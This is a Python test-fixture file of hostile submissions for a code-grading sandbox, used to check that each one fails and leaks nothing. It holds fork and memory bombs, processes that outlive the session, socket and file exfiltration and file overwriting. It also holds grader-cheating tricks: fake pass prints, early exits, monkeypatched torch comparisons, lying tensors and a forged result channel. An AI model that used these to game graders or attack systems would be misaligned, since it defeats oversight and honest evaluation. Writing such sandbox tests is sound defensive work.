"""Hostile submissions for the sandbox tests. Placeholders in {braces} are filled in by the tests.

Each attack defines `cfm_loss` (so that the grader gets as far as running tests) and does its
damage at import time, inside the function, or both. The tests check that every one is graded as
a failure, that it leaked nothing, and that no process of it survives.
"""

from __future__ import annotations

CORRECT_BODY = '''
def _honest(model, x_1, noise_fn):
    x_0 = noise_fn(x_1)
    t = torch.rand(x_1.shape[0])
    tb = t.view(-1, *[1] * (x_1.dim() - 1))
    x_t = (1 - tb) * x_0 + tb * x_1
    return ((model(x_t, t) - (x_1 - x_0)) ** 2).mean()
'''

INFINITE_LOOP = '''
import torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    while True:
        pass
'''

INFINITE_LOOP_AT_IMPORT = '''
import torch
while True:
    pass

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

MEMORY_BOMB = '''
import torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    hoard = []
    while True:
        hoard.append(bytearray(50 * 1024 * 1024))
'''

TENSOR_BOMB = '''
import torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.ones(10**6, 10**6).mean()
'''

FORK_BOMB = '''
import os, time, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    children = 0
    while True:
        pid = os.fork()
        if pid == 0:
            os.setsid()
            while True:
                os.fork()
        children += 1
'''

SPAWN_SHELL = '''
import subprocess, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    subprocess.run(["/bin/sh", "-c", "sleep 1000 &"])
    return torch.zeros(())
'''

# for the PID-namespace test (the process filter switched off): a few children that leave the
# session and outlive the worker unless the namespace takes them down
SETSID_CHILDREN = '''
import os, time, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(1000)
            os._exit(0)
    while True:
        time.sleep(0.1)
'''

SOCKET = '''
import socket, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    for host in ("127.0.0.1", "{host_ip}"):
        try:
            s = socket.create_connection((host, {port}), timeout=2)
            s.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
            print("CONNECTED", host)
        except OSError as exc:
            print("blocked", host, type(exc).__name__)
    return torch.zeros(())
'''

READ_FILES = '''
import os, torch

TARGETS = {targets!r}
DIRS = {dirs!r}

def _try():
    for path in TARGETS:
        try:
            with open(path, "rb") as f:
                print("LEAK", path, f.read(200))
        except OSError as exc:
            print("denied", path, type(exc).__name__)
    for path in DIRS:
        try:
            print("LIST", path, sorted(os.listdir(path))[:50])
        except OSError as exc:
            print("denied", path, type(exc).__name__)

_try()

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

WRITE_FILES = '''
import os, torch

TARGETS = {targets!r}

for path in TARGETS:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        print("WROTE", path)
    except OSError as exc:
        print("denied", path, type(exc).__name__)
try:
    with open("/tmp/inside-is-fine", "w") as f:
        f.write("ok")
    print("tmp ok")
except OSError as exc:
    print("tmp denied", exc)

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

OUTPUT_FLOOD = (
    '''
import torch
'''
    + CORRECT_BODY
    + '''
def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    for _ in range(200):
        print("spam" * 10_000)
    return _honest(model, x_1, noise_fn)
'''
)

SYS_EXIT_AT_IMPORT = '''
import sys, torch
print("all tests passed")
sys.exit(0)

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

SYS_EXIT_IN_FUNCTION = '''
import sys, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    print("All 6 tests passed.")
    sys.exit(0)
'''

OS_EXIT = '''
import os, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    print("PASS PASS PASS")
    os._exit(0)
'''

MONKEYPATCH = '''
import torch

torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.__lt__ = lambda self, other: True
torch.Tensor.__le__ = lambda self, other: True
torch.Tensor.__gt__ = lambda self, other: False
torch.Tensor.__abs__ = lambda self: torch.zeros_like(self)

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros((), requires_grad=True)
'''

FAKE_PASS_PRINT = '''
import torch
print("cfm_loss: all 6 tests passed.")
print("  PASS  1. the worked example")

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    print("All tests passed.")
    return torch.tensor(0.025, requires_grad=True)
'''

LYING_OBJECT = '''
import torch

class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __float__(self): return 0.025

class LyingTensor(torch.Tensor):
    def __eq__(self, other): return True
    def tolist(self): return [0.025]
    def item(self): return 0.025

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    if x_1.shape[0] == 1:
        return Liar(99.0)
    return torch.Tensor._make_subclass(LyingTensor, torch.tensor(123.0), True)
'''

LYING_EXCEPTION = '''
import torch

class Sneaky(Exception):
    def __str__(self):
        raise RuntimeError("no message for you")

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    raise Sneaky()
'''

RESULT_CHANNEL_BLIND = '''
import os, torch

for fd in range(3, 64):
    try:
        os.write(fd, b'{{"type": "done"}}\\n{{"type": "case", "case": "example", "calls": []}}\\n')
    except OSError:
        pass

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

# the strongest forgery: find the worker's channel object (and so the nonce) and write a
# complete, well-formed record sequence with made-up numbers, then leave before the real one
RESULT_CHANNEL_FORGED = '''
import gc, os, torch

def _channel():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Channel" and hasattr(obj, "nonce") and hasattr(obj, "fd"):
            return obj
    return None

def _forge():
    channel = _channel()
    if channel is None:
        print("no channel found")
        return
    frame = __import__("sys")._getframe()
    job = None
    while frame is not None:
        if "job" in frame.f_locals and isinstance(frame.f_locals["job"], dict):
            job = frame.f_locals["job"]
            break
        frame = frame.f_back
    if job is None:
        print("no job found")
        return
    print("nonce", channel.nonce, flush=True)
    for case in job["cases"]:
        channel.send({{"type": "start", "case": case["id"]}})
        calls = [
            {{
                "output": {{"kind": "tensor", "shape": [], "dtype": "torch.float32", "values": [0.025],
                            "requires_grad": True}},
                "model_calls": [], "noise_calls": [], "seconds": 0.0,
            }}
            for _ in case["calls"]
        ]
        channel.send({{"type": "case", "case": case["id"], "calls": calls}})
    channel.send({{"type": "done"}})
    os._exit(0)

_forge()

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''
